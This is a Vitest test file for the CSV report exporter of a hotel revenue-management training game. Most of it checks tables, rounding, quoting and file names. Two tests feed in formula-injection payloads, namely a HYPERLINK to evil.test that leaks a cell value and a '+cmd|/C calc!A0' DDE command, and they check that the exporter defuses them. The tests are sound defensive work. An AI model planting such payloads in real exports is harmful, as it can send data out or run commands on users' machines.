import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import type { ReportView } from '@front-desk-rm/engine/views';
import { reportCsv, reportFileName } from './report-csv.js';

const report: ReportView = {
  optimumRevenue: 72000,
  teams: [
    {
      teamId: 'T2',
      rank: 1,
      team: 'Team 2',
      members: 'Asha Rao; Dev Patel',
      revenue: 36000.4,
      occupancy: 42.857,
      ADR: 4000,
      revPar: 1028.57,
      accepted: 2,
      declined: 1,
      status: 'Completed',
      percentOfOptimum: 50.0005,
    },
    {
      teamId: 'T1',
      rank: 2,
      team: 'Team 1',
      members: 'Bilal, "B" Khan',
      revenue: 0,
      occupancy: 0,
      ADR: 0,
      revPar: 0,
      accepted: 0,
      declined: 3,
      status: 'Completed',
      percentOfOptimum: null,
    },
  ],
  decisions: [
    {
      teamId: 'T2',
      team: 'Team 2',
      request: 1,
      reservationName: 'Gala, Dinner',
      type: 'Banquet only',
      checkInDay: 'Friday',
      roomNights: 1,
      rooms: 0,
      banquets: 1,
      rateTypes: 'Ballroom',
      totalRate: 20000,
      decision: 'Accepted',
      didNotFit: null,
      didNotFitSays: null,
      decidedBy: 'Asha Rao',
      madeAt: '2026-11-23T09:58:00.000Z',
      reachedAt: '2026-11-23T10:00:00.000Z',
      bestChoice: 'Decline',
      revenueEffect: 20000,
      netOfDisplacement: 20000,
    },
    {
      teamId: 'T2',
      team: 'Team 2',
      request: 2,
      reservationName: 'Mehta Family',
      type: 'Rooms only',
      checkInDay: 'Friday',
      roomNights: 1,
      rooms: 1,
      banquets: 0,
      rateTypes: 'Deluxe',
      totalRate: 6000,
      decision: 'Declined',
      didNotFit: 'Friday had no rooms left, and it needed 1',
      didNotFitSays: { kind: 'short', day: 'F', left: 0, wanted: 1 },
      decidedBy: 'Dev Patel',
      madeAt: '2026-11-23T10:01:00.000Z',
      reachedAt: '2026-11-23T10:01:00.000Z',
      bestChoice: 'Decline',
      revenueEffect: 0,
      netOfDisplacement: 1500,
    },
  ],
  house: [
    {
      policy: 'firstComeFirstServed',
      name: 'First come, first served',
      teaches: 'Saying yes, to everything',
      revenue: 60000.2,
      occupancy: 50,
      ADR: 4000,
      revPar: 2000,
      accepted: 3,
      declined: 0,
      percentOfOptimum: 83.33,
    },
    {
      policy: 'hindsightOptimum',
      name: 'Hindsight optimum',
      teaches: 'The yardstick',
      revenue: 72000,
      occupancy: 60,
      ADR: 4000,
      revPar: 2400,
      accepted: 2,
      declined: 1,
      percentOfOptimum: 100,
    },
  ],
  houseChoices: [
    {
      request: 1,
      reservationName: 'Gala, Dinner',
      totalRate: 20000,
      choices: [
        { policy: 'firstComeFirstServed', decision: 'Accept', didNotFit: null, didNotFitSays: null },
        { policy: 'hindsightOptimum', decision: 'Decline', didNotFit: null, didNotFitSays: null },
      ],
    },
    {
      request: 2,
      reservationName: 'Iyer Anniversary',
      totalRate: 9000,
      choices: [
        {
          policy: 'firstComeFirstServed',
          decision: 'Refused',
          didNotFit: 'the Ballroom was taken on Friday',
          didNotFitSays: { kind: 'hallTaken', hall: 'Ballroom', day: 'F' },
        },
        {
          policy: 'hindsightOptimum',
          decision: 'Decline',
          didNotFit: 'the Ballroom was taken on Friday',
          didNotFitSays: { kind: 'hallTaken', hall: 'Ballroom', day: 'F' },
        },
      ],
    },
  ],
};

describe('the report file', () => {
  it('holds the figures table and the decisions table, each with its header, quoting commas and quotes', () => {
    const csv = reportCsv(report, { session: 'E2E Batch', hotel: 'Test Hotel Pune' });
    const [head, teams, decisions] = csv.split('\r\n\r\n');
    expect(head).toBe('Front Desk RM report: E2E Batch,Test Hotel Pune,Best possible revenue (INR),72000');
    const teamRows = Papa.parse<string[]>(teams!.trim()).data;
    expect(teamRows[0]![0]).toBe('Rank');
    expect(teamRows[1]).toEqual(['1', 'Team 2', 'Asha Rao; Dev Patel', '36000', '42.9', '4000', '1029', '2', '1', 'Completed', '50']);
    expect(teamRows[2]!.at(-1)).toBe('');
    expect(teamRows[2]![2]).toBe('Bilal, "B" Khan');
    const decisionRows = Papa.parse<string[]>(decisions!.trim()).data;
    expect(decisionRows[1]!.slice(0, 3)).toEqual(['Team 2', '1', 'Gala, Dinner']);
    expect(decisionRows[1]![3]).toBe('Banquet only');
    expect(decisionRows[1]![10]).toBe('Accepted');
    // Made offline two minutes before it reached the server: the file keeps both.
    expect(decisionRows[1]!.slice(12, 14)).toEqual(['2026-11-23T09:58:00.000Z', '2026-11-23T10:00:00.000Z']);
    expect(decisionRows[1]!.slice(14)).toEqual(['Decline', '20000', '20000', '']);
    // A decline of a request that could no longer fit says why.
    expect(decisionRows[2]!.slice(10, 11)).toEqual(['Declined']);
    expect(decisionRows[2]!.at(-1)).toBe('Friday had no rooms left, and it needed 1');
  });

  it('sets the teams beside every house policy, and says what each policy did with each request', () => {
    const [, , , house, choices] = reportCsv(report, { session: 'E2E Batch', hotel: 'Test Hotel Pune' }).split('\r\n\r\n');
    const houseRows = Papa.parse<string[]>(house!.trim()).data;
    expect(houseRows[0]!.slice(0, 3)).toEqual(['House policy', 'What it teaches', 'Revenue (INR)']);
    expect(houseRows[1]).toEqual(['First come, first served', 'Saying yes, to everything', '60000', '50', '4000', '2000', '3', '0', '83.3']);
    const choiceRows = Papa.parse<string[]>(choices!.trim()).data;
    expect(choiceRows[0]).toEqual(['Request', 'Reservation', 'Total rate (INR)', 'First come, first served', 'Hindsight optimum']);
    expect(choiceRows[1]).toEqual(['1', 'Gala, Dinner', '20000', 'Accept', 'Decline']);
    // A refused accept is not a decline: it says so, and why; a decline stays a decline.
    expect(choiceRows[2]).toEqual(['2', 'Iyer Anniversary', '9000', 'Refused: did not fit — the Ballroom was taken on Friday', 'Decline']);
  });

  it('keeps a name that reads as a formula from running in a spreadsheet, and leaves negative numbers alone', () => {
    const hostile: ReportView = {
      ...report,
      teams: [{ ...report.teams[0]!, members: '=HYPERLINK("http://evil.test","x")' }],
      decisions: [{ ...report.decisions[0]!, reservationName: '@SUM(1+1)', decidedBy: '+cmd|/C calc!A0', revenueEffect: -2000 }],
    };
    const csv = reportCsv(hostile, { session: 'Week', hotel: '-Hotel' });
    const [head, teams, decisions] = csv.split('\r\n\r\n');
    expect(Papa.parse<string[]>(head!).data[0]![1]).toBe("'-Hotel");
    expect(Papa.parse<string[]>(teams!.trim()).data[1]![2]).toBe('\'=HYPERLINK("http://evil.test","x")');
    const row = Papa.parse<string[]>(decisions!.trim()).data[1]!;
    expect([row[2], row[11], row[15]]).toEqual(["'@SUM(1+1)", "'+cmd|/C calc!A0", '-2000']);
  });

  it('keeps a formula from running when it runs over two lines or opens with spaces', () => {
    const twoLines = '=HYPERLINK("http://evil.test/?leak="&B2,"Open")\nx';
    const hostile: ReportView = {
      ...report,
      teams: [
        { ...report.teams[0]!, members: twoLines },
        { ...report.teams[1]!, members: '  =1+1' },
      ],
    };
    const [, teams] = reportCsv(hostile, { session: 'Week', hotel: 'Hotel' }).split('\r\n\r\n');
    const rows = Papa.parse<string[]>(teams!.trim()).data;
    expect(rows[1]![2]).toBe(`'${twoLines}`);
    expect(rows[2]![2]).toBe("'  =1+1");
  });

  it('names the file after the session and the day', () => {
    expect(reportFileName('Pune Batch #3 (Nov)', new Date('2026-11-23T12:00:00Z'))).toBe('front-desk-rm-pune-batch-3-nov-2026-11-23.csv');
    expect(reportFileName('***', new Date('2026-11-23T12:00:00Z'))).toBe('front-desk-rm-session-2026-11-23.csv');
  });
});
